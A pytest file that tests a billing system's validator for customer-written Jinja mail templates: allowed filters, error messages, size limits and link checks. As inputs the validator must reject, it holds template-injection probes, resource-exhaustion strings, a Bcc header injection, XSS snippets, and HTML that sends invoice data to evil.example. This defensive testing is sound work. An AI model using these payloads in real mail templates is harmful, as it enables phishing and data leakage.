"""What may be in an organization's own words for a mail, and what is said about what may not."""

import pytest

from billing.mail.customer_mail_text import NAMES, VARIABLES, Name, Words, built_in
from billing.mail.phrases import PHRASES
from billing.mail.template_checks import DEEPEST, LARGEST_PART, MAX_FAULTS, MAX_NODES, Fault, validate
from billing.mail.template_examples import CASES, example, preview

LINKS = "{{ link }} {{ opt_out }}"
USABLE = (
    "Use one of: seller, customer, number, amount, paid, due_date, days_left, when_due, link, link_until, "
)


def in_text(source: str, name: Name = "reminder") -> list[Fault]:
    """What is wrong with a text, in a template that is right otherwise."""
    return validate(name, "Pay {{ number }}", source, None)


def codes(faults: list[Fault]) -> list[tuple[str, str, int | None]]:
    return [(fault.code, fault.field, fault.line) for fault in faults]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("language", PHRASES)
def test_the_built_in_words_could_be_an_organizations_own(name: Name, language: str) -> None:
    assert validate(name, *built_in(name, language)) == []


@pytest.mark.parametrize(
    "source",
    [
        "{{ customer|default('there', true)|title }}, {{ seller|upper|trim }}",
        "{{ customer|default(seller, true) }}",
        "{% if days_left is not none and days_left < -3 %}{{ days_left|abs }} days!{% endif %}",
        "{% if paid %}a{% elif not due_date or language == 'de' %}b{% else %}c{% endif %}",
        "{{ 'overdue' if when_due and not paid else 'open' }}{{ ' by ' ~ due_date }}",
        "{{ seller|truncate(20, killwords=true, end='…') }}{{ amount is defined }}",
        "{{ seller|capitalize|lower|escape }}{# a note #}{% raw %}{{ shown as it is }}{% endraw %}",
    ],
)
def test_variables_conditions_and_harmless_filters_may_be_used(source: str) -> None:
    assert in_text(f"{source}\n\n{LINKS}") == []


@pytest.mark.parametrize(
    ("source", "what"),
    [
        ("{% for x in seller %}{% endfor %}", "{% for %}"),
        ("{% set x = 1 %}", "{% set %}"),
        ("{% set x %}{% endset %}", "{% set %}"),
        ("{% macro m() %}{% endmacro %}", "{% macro %}"),
        ("{% call seller() %}{% endcall %}", "{% call %}"),
        ("{% filter upper %}{% endfilter %}", "{% filter %}"),
        ("{% with x = 1 %}{% endwith %}", "{% with %}"),
        ("{% block b %}{% endblock %}", "{% block %}"),
        ("{% extends 'x' %}", "{% extends %}"),
        ("{% include 'x' %}", "{% include %}"),
        ("{% import 'x' as y %}", "{% import %}"),
        ("{% from 'x' import y %}", "{% from %}"),
        ("{% autoescape false %}{% endautoescape %}", "{% autoescape %}"),
        ("{{ range(999999999) }}", "calling something with ()"),
        ("{{ seller.__class__ }}", "an attribute after a dot"),
        ("{{ seller[0] }}", "an item in []"),
        ("{{ seller[1:2] }}", "an item in []"),
        ("{{ [seller] }}", "a list"),
        ("{{ (seller, seller) }}", "a list with commas"),
        ("{{ {'a': 1} }}", "a dictionary"),
        ("{{ 'a' * 999999999 }}", "arithmetic"),
        ("{{ 9 ** 9 ** 9 }}", "arithmetic"),
        ("{{ days_left + 1 }}", "arithmetic"),
        ("{{ days_left - 1 }}", "arithmetic"),
        ("{{ days_left / 2 }}", "arithmetic"),
        ("{{ days_left // 2 }}", "arithmetic"),
        ("{{ '%999999999d' % 1 }}", "arithmetic"),
        ("{{ -days_left }}", "arithmetic"),
        ("{{ +days_left }}", "arithmetic"),
        ("{{ seller|center(999999999) }}", "the filter center"),
        ("{{ seller|safe }}", "the filter safe"),
        ("{{ seller|no_such_filter }}", "the filter no_such_filter"),
        ("{{ seller is mapping }}", "the test mapping"),
        ("{{ seller|truncate(days_left) }}", "anything but text and numbers in parentheses after truncate"),
        ("{{ seller|truncate(*seller) }}", "anything but text and numbers in parentheses after truncate"),
        ("{{ seller|default(**seller) }}", "anything but text and numbers in parentheses after default"),
    ],
)
def test_everything_else_is_refused_by_name_with_its_line(source: str, what: str) -> None:
    [fault] = in_text(f"Hello\n\n{source}\n{LINKS}")
    assert codes([fault]) == [("template_unsupported", "text", 3)]
    assert fault.message.startswith(f"text, line 3: {what} is not supported in mail templates. ")


def test_what_may_be_used_instead_is_named() -> None:
    [unsupported, filtered, tested] = in_text(
        "{{ seller() }}{{ seller|safe }}{{ seller is even }}",
    )
    assert unsupported.remedy == "Use variables, {% if %} and filters only."
    assert filtered.remedy == (
        "The filters are: abs, capitalize, default, escape, lower, title, trim, truncate, upper."
    )
    assert tested.remedy == "The tests are: defined, none."


def test_a_variable_that_is_not_there_is_named_with_those_that_are() -> None:
    [fault] = in_text(f"{LINKS}\n{{% if paid %}}\n{{{{ customer_name }}}}{{% endif %}}")
    assert fault == Fault(
        "template_variable_unknown",
        "text",
        3,
        "there is no variable customer_name",
        f"{USABLE}opt_out, language.",
    )


def test_jinjas_own_names_are_no_variables() -> None:
    for name in ("self", "range", "lipsum", "cycler", "namespace", "dict", "loop"):
        assert codes(in_text(f"{{{{ {name} }}}}")) == [("template_variable_unknown", "text", 1)]


def test_only_a_reminder_can_be_opted_out_of() -> None:
    [fault] = in_text(f"{LINKS}", "portal_link")
    assert fault.problem == "there is no variable opt_out in this mail"
    assert fault.remedy == f"{USABLE}language."
    assert in_text("{{ link }}", "portal_link") == []


@pytest.mark.parametrize(
    ("source", "line", "problem"),
    [
        ("a\n{{ link ", 2, "this can't be parsed: unexpected end of template, expected"),
        ("a\nb\n{% endif %}", 3, "this can't be parsed: Encountered unknown tag 'endif'"),
        ("{% if %}", 1, "this can't be parsed: Expected an expression"),
        ("\n{# never ends", 2, "this can't be parsed: Missing end of comment tag"),
        ("{{ " + "1" * 5000 + " }}", None, "this can't be parsed"),
    ],
)
def test_what_is_no_template_is_refused_with_its_line(source: str, line: int | None, problem: str) -> None:
    [fault] = in_text(source)
    assert codes([fault]) == [("template_malformed", "text", line)]
    assert fault.problem.startswith(problem)


@pytest.mark.parametrize(
    "source",
    [
        "{{ " + "(" * 30_000,
        "{{ " + "(" * 41 + "1" + ")" * 41 + " }}",
        "{{ " + "not " * 9_000 + "1 }}",
        "{{ " + "1 and " * 9_000 + "1 }}",
        "{{ seller" + "|upper" * 9_000 + " }}",
        "{% if paid %}" * 1_000 + "{% endif %}" * 1_000,
    ],
    ids=["brackets", "closed brackets", "not", "and", "filters", "if"],
)
def test_what_is_nested_without_end_is_refused_without_a_crash(source: str) -> None:
    [fault] = in_text(source + LINKS)
    assert fault.code == "template_unsupported"
    assert fault.problem == f"more than {DEEPEST} levels are nested"


@pytest.mark.parametrize(
    "source",
    [
        "{{ seller }}" * 5_000,
        "{% if paid %}a" + "{% elif paid %}b" * 3_500 + "{% endif %}",
        "{{ " + "seller ~ " * 6_000 + "1 }}",
        "{{ " + "1 < " * 9_000 + "1 }}",
    ],
    ids=["variables", "elif", "concatenation", "comparison"],
)
def test_what_would_take_long_is_refused(source: str) -> None:
    [fault] = in_text(source + LINKS)
    assert fault.code == "template_too_large"
    assert fault.problem == f"there are more than {MAX_NODES} variables, conditions and texts"


def test_a_number_that_can_not_be_written_is_refused() -> None:
    [fault] = in_text("{{ 0x" + "f" * 20_000 + " }}" + LINKS)
    assert fault.code == "template_malformed"


def test_a_part_has_at_most_64_kib_of_utf_8() -> None:
    room = LARGEST_PART - len(LINKS)
    letters = (room - 1) // 2
    fits = "ä" * letters + " " * (room - 2 * letters) + LINKS
    assert validate("reminder", "S", fits, fits) == []
    assert validate("reminder", "S", fits, fits + "ä") == [
        Fault(
            "template_too_large",
            "html",
            None,
            f"it has {LARGEST_PART + 2} bytes, more than 65536",
            "Shorten it.",
        )
    ]


@pytest.mark.parametrize("subject", ["", " ", "\n", "a\nb", "a\r\nBcc: x@y.example", "a\u2028b"])
def test_a_subject_is_one_line(subject: str) -> None:
    assert codes(validate("reminder", subject, LINKS, None)) == [("template_subject_unfit", "subject", None)]


def test_a_subject_has_1_to_200_characters_whatever_the_invoice() -> None:
    assert validate("reminder", "x" * 200, LINKS, None) == []
    [long] = validate("reminder", "x" * 197 + "{{ number }}", LINKS, None)
    [none] = validate("reminder", "{% if due_date %}x{% endif %}", LINKS, None)
    assert long.message == (
        "subject: for an overdue invoice the subject has 203 characters, not 1 to 200 on one line. "
        "Shorten or complete it."
    )
    assert none.problem == (
        "for an invoice without a due date the subject has 0 characters, not 1 to 200 on one line"
    )


def test_the_link_shows_in_the_text_and_in_the_html_of_every_mail() -> None:
    assert codes(validate("portal_link", "S", "no", "no")) == [
        ("template_link_missing", "text", None),
        ("template_link_missing", "html", None),
    ]
    [fault] = in_text("{% if not paid %}{{ link }}{% endif %} {{ opt_out }}")
    assert fault.problem == "for a paid invoice it doesn't show link, which the mail is sent for"
    [changed] = in_text("{{ link|upper }}{{ opt_out }}")
    assert changed.remedy == "Add {{ link }} unchanged."


def test_reminders_show_how_to_end_them_in_the_text_and_in_the_html() -> None:
    assert codes(validate("reminder", "S", "{{ link }}", "{{ link }}")) == [
        ("template_opt_out_missing", "text", None),
        ("template_opt_out_missing", "html", None),
    ]
    [fault] = in_text("{{ link }} {% if customer %}{{ opt_out }}{% endif %}")
    assert "for an overdue invoice of a customer without a name" in fault.problem


@pytest.mark.parametrize(
    ("source", "so"),
    [
        ("{{ days_left|abs }}", "an invoice without a due date"),
        ("{% if days_left < 0 %}late{% endif %}", "an invoice without a due date"),
        ("{{ amount|abs }}", "an overdue invoice"),
        ("{{ seller|truncate(2) }}", "an overdue invoice"),
        ("{% if paid %}{{ seller|abs }}{% endif %}", "a paid invoice"),
    ],
)
def test_what_fails_for_some_invoices_is_refused_with_its_line(source: str, so: str) -> None:
    [fault] = in_text(f"{LINKS}\n{source}")
    assert codes([fault]) == [("template_fails", "text", 2)]
    assert fault.problem == f"it can't be rendered for {so}"


def test_everything_that_is_wrong_is_told_at_once_but_not_without_end() -> None:
    assert codes(validate("reminder", "{{ a }}", "{{ b }}\n{{ c|safe }}", "{% set x = 1 %}{{ d }}")) == [
        ("template_variable_unknown", "subject", 1),
        ("template_variable_unknown", "text", 1),
        ("template_unsupported", "text", 2),
        ("template_unsupported", "html", 1),
        ("template_variable_unknown", "html", 1),
    ]
    assert len(in_text("{{ a }}" * 100)) == MAX_FAULTS


def test_an_example_has_every_variable() -> None:
    for case in CASES:
        assert example("reminder", case).keys() == VARIABLES.keys()
        assert example("portal_link", case).keys() == VARIABLES.keys() - {"opt_out"}


def test_a_preview_is_in_the_language_asked_for() -> None:
    words = Words("{{ seller }}: {{ amount }}", "{{ due_date }}, {{ when_due }}", "<p>{{ customer }}</p>")
    assert preview("reminder", words, "overdue", language="de", seller="Acme") == Words(
        "Acme: USD 1.234,50", "12. April 2026, 3 Tage überfällig\n", "<p>Kunde &amp; Söhne</p>"
    )


GOOD_HTML = '<p>{{ amount }}</p><a href="{{ link }}">Pay</a> <a href="{{ opt_out }}">Stop</a> {{ link }}'


@pytest.mark.parametrize(
    "source",
    [
        "https://evil.example/",
        "HTTP://evil.example",
        "www.evil.example",
        "evil.example",
        "see evil.example/pay now",
        "https://evil.example/?t={{ link }}",
        "evil{{ link }}",
        "{{ link }}.evil",
        "{{ link }}@x",
        "{{ 'https://evil' }}",
        "{{ 'https:' ~ '//evil' }}",
        "{% if number == 'A-9' %}https://evil.example{% endif %}",
        "{% if number == 'A-9' %}a{% elif paid %}evil.example{% else %}b{% endif %}",
        "{% if number == 'A-9' %}{{ seller }}{{ link }}{% endif %}",
        "{{ customer|default('evil.example', true) }}",
    ],
)
def test_no_text_leads_anywhere_but_to_our_links(source: str) -> None:
    [fault] = in_text(f"{LINKS}\n{source}\n")
    assert fault.code == "template_link_foreign"
    assert "{{ link }}" in fault.remedy


@pytest.mark.parametrize(
    "source",
    [
        '<a href="https://evil.example">x</a>',
        '<a href="https://evil.example/?t={{ link }}">x</a>',
        '<a href="{{ link }}?x">x</a>',
        "<a href={{ link }}{{ number }}>x</a>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="mailto:a@evil.example?body={{ link }}">x</a>',
        '<img src="https://evil.example/{{ number }}">',
        '<img src="{{ link }}">',
        '<form action="{{ link }}"><input></form>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<link rel="stylesheet" href="//evil.example">',
        '<p style="background:url(//evil.example/x)">x</p>',
        "<p style='background:\\75rl(x)'>x</p>",
        "<style>@import 'x';</style>",
        "<style>p { background: URL( x ) }</style>",
        '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
        "<!--[if mso]><a href='https://evil.example'>x</a><![endif]-->",
        "<![if !mso]>x<![endif]>",
        "<svg onload=x>",
        "<p onclick='x'>x</p>",
        "<script>x</script>",
        "<iframe srcdoc='x'></iframe>",
        "evil<b>.example</b>",
        "evil&#46;example",
        "https&#58;//x",
        "evil.example/?<i>{{ link }}</i>",
        "{% if number == 'A-9' %}<a href='//evil.example'>x</a>{% endif %}",
        "<a hr{% if number == 'A-9' %}ef='https://evil'{% endif %}>x</a>",
        "<a href='{% if paid %}https://evil.example{% else %}{{ link }}{% endif %}'>x</a>",
        '<a title="{{ link }}">x</a>',
    ],
)
def test_no_page_leads_or_sends_anything_anywhere_but_to_our_links(source: str) -> None:
    assert validate("reminder", "S", LINKS, GOOD_HTML) == []
    faults = validate("reminder", "S", LINKS, f"{GOOD_HTML}\n{source}")
    assert {(fault.code, fault.field) for fault in faults} == {("template_link_foreign", "html")}


@pytest.mark.parametrize(
    "source",
    [
        "{{ link|lower }}",
        "{{ link ~ 'x' }}",
        "{{ link if paid else '' }}",
        "{{ customer|default(link, true) }}",
    ],
)
def test_the_link_is_shown_as_it_is_or_not_at_all(source: str) -> None:
    [fault] = in_text(f"{LINKS}\n{source}\n")
    assert fault.code in ("template_link_altered", "template_link_foreign", "template_unsupported")


def test_a_subject_shows_no_link() -> None:
    [fault] = validate("reminder", "Pay {{ link }}", LINKS, None)
    assert (fault.code, fault.field) == ("template_link_foreign", "subject")


@pytest.mark.parametrize(
    "source",
    [
        "Write to billing@acme.example.",
        "z. B. 1.234,50 EUR, d.h. heute … {{ amount }}.",
        "Pay here: {{ link }}.\n({{ link }})\n<{{ opt_out }}>",
        "{% if link %}{{ seller }}{% endif %}",
    ],
)
def test_what_leads_nowhere_may_be_written(source: str) -> None:
    assert in_text(f"{LINKS}\n{source}\n") == []
